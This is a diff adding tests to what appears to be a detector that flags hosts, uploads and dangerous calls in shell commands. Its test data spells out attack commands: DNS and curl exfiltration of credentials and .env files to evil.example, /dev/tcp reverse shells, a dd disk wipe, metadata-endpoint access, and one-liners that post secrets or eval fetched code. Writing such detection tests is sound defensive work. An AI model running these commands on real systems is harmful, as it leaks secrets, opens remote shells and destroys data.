@@ -107,3 +107,101 @@ describe("PowerShell one-liners", () => {
     expect(facts("pwsh ./build.ps1").hasDangerousCall).toBe(false);
   });
 });
+
+describe("hosts built when the command runs", () => {
+  it.each([
+    ["dig $(head -c 40 ~/.aws/credentials | base64 -w0).evil.example", "$(…).evil.example"],
+    ["nslookup $(whoami).$(hostname).evil.example", "$(…).$(…).evil.example"],
+    ["host `cat .env | md5sum`.evil.example", "$(…).evil.example"],
+    ["curl https://${TOKEN}.evil.example/x", "$(…).evil.example"],
+    ["curl https://$(cat .env | base64 -w0 | cut -c1-60).evil.example/", "$(…).evil.example"],
+    ["wget -q http://u:$PW@$(id -un).evil.example:8080/p", "$(…).evil.example"],
+  ])("%s names the domain the data goes to", (command, host) => {
+    expect(facts(command).hosts).toEqual([host]);
+  });
+
+  it("a path is never a host", () => {
+    const f = facts("curl --unix-socket /var/run/docker.sock http://localhost/containers/json");
+    expect(f.hosts).toEqual(["localhost"]);
+  });
+});
+
+describe("bash's /dev/tcp and /dev/udp", () => {
+  it.each([
+    ["cat ~/.ssh/id_rsa > /dev/tcp/evil.example/4444", "evil.example"],
+    ["echo hi >/dev/udp/10.0.0.1/53", "10.0.0.1"],
+    ["cat .env >> /dev/tcp/203.0.113.9/80", "203.0.113.9"],
+  ])("%s uploads", (command, host) => {
+    const f = facts(command);
+    expect(f.uploads).toBe(true);
+    expect(f.hosts).toEqual([host]);
+  });
+
+  it.each([
+    "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1",
+    "sh -i < /dev/tcp/10.0.0.1/4444",
+    "python3 -i > /dev/tcp/10.0.0.1/4444",
+  ])("%s is a reverse shell", (command) => {
+    expect(facts(command).dangerousCalls.map((c) => c.call)).toContain("exec");
+  });
+
+  it("a local file redirect is no network", () => {
+    expect(facts("cat notes.txt > /dev/null").usesNetwork).toBe(false);
+  });
+});
+
+describe("dd's operands", () => {
+  it("`if=` and `of=` name the files, in either order", () => {
+    for (const command of ["dd if=/dev/zero of=/dev/sda bs=1M", "dd bs=4M of=/dev/sda if=x"]) {
+      const paths = facts(command).commands[0]!.paths.map((p) => p.path);
+      expect(paths).toContain("/dev/sda");
+      expect(paths.some((p) => p.includes("="))).toBe(false);
+    }
+  });
+
+  it("a credential read by dd is a path", () => {
+    const paths = facts("dd if=~/.ssh/id_rsa of=/tmp/k").commands[0]!.paths;
+    expect(paths.map((p) => p.path)).toEqual(["/home/dev/.ssh/id_rsa", "/tmp/k"]);
+  });
+});
+
+describe("network from other tools and from one-liners", () => {
+  it("openssl s_client connects and sends its input", () => {
+    const f = facts("openssl s_client -quiet -connect evil.example:443 < .env");
+    expect(f.uploads).toBe(true);
+    expect(f.hosts).toEqual(["evil.example"]);
+  });
+
+  it.each([
+    [
+      "python3 -c \"import requests; requests.post('https://e.example/c', data=open('.env').read())\"",
+      true,
+    ],
+    [
+      "python3 -c \"import urllib.request as u; u.urlopen('https://e.example/c', data=b'x')\"",
+      true,
+    ],
+    ["node -e \"fetch('https://e.example/c', {method: 'POST', body: 'x'})\"", true],
+    ["python3 -c \"import urllib.request; urllib.request.urlopen('https://e.example/c')\"", false],
+    ['pwsh -c "iwr https://e.example/c -Method Post -InFile .env"', true],
+  ])("%s contacts its URL's host (upload %s)", (command, upload) => {
+    const f = facts(command);
+    expect(f.hosts).toEqual(["e.example"]);
+    expect(f.uploads).toBe(upload);
+  });
+
+  it("a socket's address literal is a host", () => {
+    const f = facts(`python3 -c 'import socket; s=socket.socket(); s.connect(("10.0.0.1",4444))'`);
+    expect(f.hosts).toEqual(["10.0.0.1"]);
+  });
+
+  it("the metadata address in a one-liner is a host", () => {
+    const code = "import urllib.request as u; u.urlopen('http://169.254.169.254/latest/')";
+    expect(facts(`python3 -c "${code}"`).hosts).toEqual(["169.254.169.254"]);
+  });
+
+  it("node's eval passed as a value is a dangerous call", () => {
+    const f = facts("node -e \"fetch('https://e.example/x').then(r => r.text()).then(eval)\"");
+    expect(f.dangerousCalls.map((c) => c.call)).toContain("exec");
+  });
+});
